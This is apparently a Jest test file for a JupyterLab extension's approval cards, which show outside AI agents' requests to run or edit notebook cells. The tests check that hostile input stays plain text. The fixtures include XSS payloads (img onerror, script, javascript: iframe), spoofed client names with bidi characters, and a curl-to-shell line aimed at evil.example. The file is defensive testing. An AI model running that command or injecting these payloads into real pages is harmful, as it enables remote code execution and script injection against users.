/**
 * @jest-environment jsdom
 */

/**
 * An outside agent's approval cards under its notebook (src/notebookApprovals.ts), in a real
 * DOM (jsdom) and real Lumino widgets: the notebook panels are widgets with a BoxLayout, as
 * a MainAreaWidget is. Hostile text (the client's name, the cell, the diff) stays text; the
 * card shows only under the notebook it is about; one answer, in either place, is sent once
 * and the kernel's update removes the card from both; the bars go with their notebook.
 */

import { BoxLayout, Widget } from '@lumino/widgets';
import { ApprovalDock, DOCK_CLASS, NotebookApprovals, asksFor, whoAsks } from '../src/notebookApprovals';
import { answeredOnce, drawApprovals } from '../src/panelApprovals';
import { PANEL_VERSION, PanelRequest } from '../src/panelProtocol';
import { IApproval, PanelState } from '../src/panelState';

const HOSTILE_NAME = '<img src=x onerror="window.__pwned=1">Claude</b>';
const HOSTILE_CODE = '</pre><script>window.__pwned = 2</script><img src=y onerror=alert(1)>\nprint(1)';

/** An outside agent's ask to run a cell of the page `page`, as the kernel sends it (panel_json.py). */
function runAsk(id: number, page: string, asker = HOSTILE_NAME): IApproval {
  return {
    id,
    tool_use_id: `outside_${id}`,
    run: 'jupyter-agent-outside-1',
    tool: 'NotebookRun',
    message: `NotebookRun wants to run cell 1 of 2 (id c1) of nb.ipynb:\n${HOSTILE_CODE}`,
    question: 'NotebookRun wants to run cell 1 of 2 (id c1) of nb.ipynb',
    code: HOSTILE_CODE,
    diff: '',
    input: '{"notebook_path": "nb.ipynb", "cell_id": "c1"}',
    warning: '',
    rules: ['NotebookRun'],
    asker,
    page
  };
}

function editAsk(id: number, page: string): IApproval {
  return {
    id,
    tool_use_id: `outside_${id}`,
    tool: 'NotebookEdit',
    message: 'NotebookEdit wants to edit nb.ipynb.',
    diff: '--- a\n+++ b\n@@ -1 +1 @@\n-<b>old</b>\n+<iframe src="javascript:alert(1)"></iframe>',
    input: '{}',
    rules: ['NotebookEdit'],
    asker: 'cursor',
    page
  };
}

/** A notebook panel as JupyterLab lays one out: its content, in a top-to-bottom BoxLayout. */
function notebookPanel(): Widget {
  const panel = new Widget();
  const layout = new BoxLayout({ spacing: 0 });
  panel.layout = layout;
  const content = new Widget();
  content.addClass('jp-Notebook');
  BoxLayout.setStretch(content, 1);
  layout.addWidget(content);
  Widget.attach(panel, document.body);
  return panel;
}

/** The bars of two notebooks, the first's kernel connection 'page-a', the second's 'page-b'. */
function twoNotebooks(): { a: Widget; b: Widget; docks: NotebookApprovals } {
  const a = notebookPanel();
  const b = notebookPanel();
  const ids = new Map<Widget, string>([
    [a, 'page-a'],
    [b, 'page-b']
  ]);
  const docks = new NotebookApprovals({
    panels: () => [a, b].filter(p => !p.isDisposed),
    clientId: p => ids.get(p) ?? ''
  });
  return { a, b, docks };
}

function buttonOf(host: HTMLElement, name: string): HTMLButtonElement {
  const found = Array.from(host.querySelectorAll('button')).find(b => b.textContent === name);
  if (!found) {
    throw new Error(`no ${name} button`);
  }
  return found;
}

afterEach(() => {
  document.body.textContent = '';
  delete (window as unknown as { __pwned?: number }).__pwned;
});

describe('the cards under a notebook', () => {
  it('show only an outside agent’s asks, only under the notebook they are about', () => {
    const own: IApproval = { id: 1, tool: 'Write', message: 'Write wants to write a.py.', input: '{}' };
    const asks = [own, runAsk(2, 'page-a'), editAsk(3, 'page-b')];
    expect(asksFor(asks, 'page-a').map(a => a.id)).toEqual([2]);
    expect(asksFor(asks, 'page-b').map(a => a.id)).toEqual([3]);
    expect(asksFor(asks, '')).toEqual([]); // a notebook without a kernel: none

    const { a, b, docks } = twoNotebooks();
    docks.show([own, runAsk(2, 'page-a')], () => undefined);
    const dock = docks.dockOf(a)!;
    expect(dock.isHidden).toBe(false);
    expect(docks.dockOf(b)).toBeUndefined(); // nothing asks about b: no bar at all
    expect(Array.from(dock.cards.children).map(c => (c as HTMLElement).dataset.request)).toEqual(['2']);
    // docked at the bottom of the panel, below its cells (not inside them: it does not scroll away)
    const layout = a.layout as BoxLayout;
    expect(layout.widgets[layout.widgets.length - 1]).toBe(dock);
    expect(a.node.querySelector('.jp-Notebook')!.contains(dock.node)).toBe(false);
    expect(dock.hasClass(DOCK_CLASS)).toBe(true);
  });

  it('keeps the client’s name, the cell and the diff as text, whole', () => {
    const { a, b, docks } = twoNotebooks();
    docks.show([runAsk(2, 'page-a'), editAsk(3, 'page-b')], () => undefined);
    for (const [panel, tool] of [
      [a, 'NotebookRun'],
      [b, 'NotebookEdit']
    ] as const) {
      const node = docks.dockOf(panel)!.node;
      expect(node.querySelectorAll('img, script, iframe').length).toBe(0);
      // the one bold element is the card's own: the tool's name
      expect(Array.from(node.querySelectorAll('b'), e => e.textContent)).toEqual([tool]);
    }
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
    const runDock = docks.dockOf(a)!.node;
    expect(runDock.querySelector(`.${DOCK_CLASS}-head`)!.textContent).toBe(
      `${HOSTILE_NAME}, an outside agent (MCP), asks to change or run this notebook:`
    );
    expect(runDock.querySelector('.jp-AgentPanel-code')!.textContent).toBe(HOSTILE_CODE);
    expect(runDock.textContent).toContain(`Asked by ${HOSTILE_NAME}, an outside agent (MCP).`);
    const diff = docks.dockOf(b)!.node.querySelector('.jp-AgentPanel-diff')!;
    expect(diff.textContent).toBe(editAsk(3, 'page-b').diff + '\n');
    expect(diff.querySelector('.jp-AgentPanel-add')!.textContent).toBe(
      '+<iframe src="javascript:alert(1)"></iframe>\n'
    );
    // the note, Allow, Deny and Always, as in the panel
    expect(runDock.querySelector('input.jp-AgentPanel-feedback')).not.toBeNull();
    for (const name of ['Allow', 'Deny', 'Always allow']) {
      expect(buttonOf(runDock, name)).toBeTruthy();
    }
  });

  it('names every client that asks', () => {
    expect(whoAsks([runAsk(1, 'p', 'claude-code'), runAsk(2, 'p', 'claude-code'), editAsk(3, 'p')])).toBe(
      'claude-code, cursor, an outside agent (MCP), asks (3 requests) to change or run this notebook:'
    );
  });
});

describe('one answer for both places', () => {
  function bothPlaces(): {
    state: PanelState;
    side: HTMLElement;
    a: Widget;
    docks: NotebookApprovals;
    sent: PanelRequest[];
    redraw: () => void;
  } {
    const state = new PanelState();
    const sent: PanelRequest[] = [];
    const side = document.createElement('div');
    document.body.appendChild(side);
    const { a, docks } = twoNotebooks();
    const answer = answeredOnce(
      () => [side, ...docks.hosts()],
      (ask, choice, feedback) => {
        const { request } = state.answer(ask, choice, feedback);
        if (request) {
          sent.push(request);
        }
      }
    );
    // as panel.ts draws a change: the side panel's cards, then the bars under the notebooks
    const redraw = () => {
      drawApprovals(side, state.approvals, answer);
      docks.show(state.approvals, answer);
    };
    state.receive({ v: PANEL_VERSION, type: 'state', session: {}, runs: [], approvals: [runAsk(7, 'page-a')] });
    redraw();
    return { state, side, a, docks, sent, redraw };
  }

  it('under the notebook: sent once with its note, the panel’s card stops, the update removes both', () => {
    const { state, side, a, docks, sent, redraw } = bothPlaces();
    const dock = docks.dockOf(a)!;
    expect(side.children.length).toBe(1);
    expect(dock.cards.children.length).toBe(1);

    dock.cards.querySelector<HTMLInputElement>('.jp-AgentPanel-feedback')!.value = 'not that cell';
    buttonOf(dock.cards, 'Deny').click();
    expect(sent).toEqual([
      { op: 'approve', request: 7, tool_use_id: 'outside_7', choice: 'deny', feedback: 'not that cell' }
    ]);
    // the same request in the panel takes no second answer
    expect(buttonOf(side, 'Allow').disabled).toBe(true);
    expect(side.querySelector<HTMLInputElement>('.jp-AgentPanel-feedback')!.disabled).toBe(true);
    buttonOf(side, 'Allow').disabled = false; // even a button forced back on sends nothing
    buttonOf(side, 'Allow').click();
    expect(sent.length).toBe(1);

    state.receive({ v: PANEL_VERSION, type: 'update', approvals: [] });
    redraw();
    expect(side.children.length).toBe(0);
    expect(dock.cards.children.length).toBe(0);
    expect(dock.isHidden).toBe(true);
  });

  it('in the panel: the card under the notebook stops and goes with the update', () => {
    const { state, side, a, docks, sent, redraw } = bothPlaces();
    buttonOf(side, 'Always allow').click();
    expect(sent).toEqual([{ op: 'approve', request: 7, tool_use_id: 'outside_7', choice: 'always', feedback: '' }]);
    const dock = docks.dockOf(a)!;
    buttonOf(dock.cards, 'Allow').disabled = false;
    buttonOf(dock.cards, 'Allow').click();
    expect(sent.length).toBe(1);
    state.receive({ v: PANEL_VERSION, type: 'update', approvals: [] });
    redraw();
    expect(dock.isHidden).toBe(true);
    expect(side.children.length).toBe(0);
  });

  it('the kernel’s whole state draws the cards anew, as in the panel', () => {
    const { state, a, docks, sent } = bothPlaces();
    const dock = docks.dockOf(a)!;
    buttonOf(dock.cards, 'Allow').click();
    expect(buttonOf(dock.cards, 'Deny').disabled).toBe(true);
    // the answer never reached the kernel (its comm closed): the state it sends again still asks
    const change = state.receive({
      v: PANEL_VERSION,
      type: 'state',
      session: {},
      runs: [],
      approvals: [runAsk(7, 'page-a')]
    });
    expect(change.reset).toBe(true);
    docks.show(state.approvals, () => undefined, change.reset);
    expect(buttonOf(dock.cards, 'Deny').disabled).toBe(false);
    expect(sent.length).toBe(1);
  });

  it('the panel disconnecting (another notebook, a restart) clears the bar too', () => {
    const { state, a, docks, redraw } = bothPlaces();
    state.disconnect('restarting');
    redraw();
    expect(docks.dockOf(a)!.isHidden).toBe(true);
  });
});

describe('disposal', () => {
  it('a bar goes with its notebook panel', () => {
    const { a, docks } = twoNotebooks();
    docks.show([runAsk(2, 'page-a')], () => undefined);
    const dock = docks.dockOf(a)!;
    a.dispose();
    expect(dock.isDisposed).toBe(true);
    expect(document.body.contains(dock.node)).toBe(false);
    expect(docks.dockOf(a)).toBeUndefined();
    expect(docks.hosts()).toEqual([]);
    docks.show([runAsk(2, 'page-a')], () => undefined); // the panel is gone: nothing drawn
    expect(document.body.querySelector(`.${DOCK_CLASS}`)).toBeNull();
  });

  it('disposing the cards under the notebooks removes every bar and draws no more', () => {
    const { a, b, docks } = twoNotebooks();
    docks.show([runAsk(2, 'page-a'), editAsk(3, 'page-b')], () => undefined);
    const bars = [docks.dockOf(a)!, docks.dockOf(b)!];
    docks.dispose();
    expect(docks.isDisposed).toBe(true);
    for (const bar of bars) {
      expect(bar.isDisposed).toBe(true);
    }
    expect((a.layout as BoxLayout).widgets.length).toBe(1); // the notebook's own content stays
    expect(document.body.querySelector(`.${DOCK_CLASS}`)).toBeNull();
    docks.show([runAsk(2, 'page-a')], () => undefined);
    expect(document.body.querySelector(`.${DOCK_CLASS}`)).toBeNull();
    expect(a.isDisposed).toBe(false);
  });

  it('a bar on its own is a hidden widget until something asks', () => {
    const dock = new ApprovalDock();
    expect(dock.isHidden).toBe(true);
    dock.draw([runAsk(1, 'p')], () => undefined);
    expect(dock.isHidden).toBe(false);
    dock.dispose();
    expect(dock.isDisposed).toBe(true);
  });
});

describe('a client’s name on the card', () => {
  // the names an outside client may give in its initialize (issue 37, finding 4)
  const FAKE_CODE =
    "claude-code:\nimport pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.plot()" + '\n'.repeat(120) + '#';
  const NAMES = [
    FAKE_CODE,
    'line one\nline two\r\nthree',
    'x'.repeat(10_000),
    'safe\u202Etxt.exe\u2066 \u200B',
    '<img src=x onerror="window.__pwned=3"><b>bold</b>'
  ];
  const CODE = "import os; os.system('curl https://evil.example/x | sh')";

  it('is a line of its own, as text, and the code box holds exactly the code that runs', () => {
    for (const name of NAMES) {
      const host = document.createElement('div');
      document.body.appendChild(host);
      const ask: IApproval = {
        ...runAsk(9, 'page-a', name),
        message: `NotebookRun wants to run cell 1 of 2 (id c1) of nb.ipynb:\n${CODE}`,
        code: CODE
      };
      drawApprovals(host, [ask], () => undefined);
      const card = host.querySelector('.jp-AgentPanel-approval')!;
      expect(card.querySelector('.jp-AgentPanel-code')!.textContent).toBe(CODE);
      expect(card.querySelector('.jp-AgentPanel-asker')!.textContent).toBe(`Asked by ${name}, an outside agent (MCP).`);
      expect(card.querySelector('.jp-AgentPanel-muted:not(.jp-AgentPanel-asker)')!.textContent).toBe(
        'NotebookRun wants to run cell 1 of 2 (id c1) of nb.ipynb'
      );
      expect(card.querySelector('img')).toBeNull();
      host.remove();
    }
    expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
  });
});
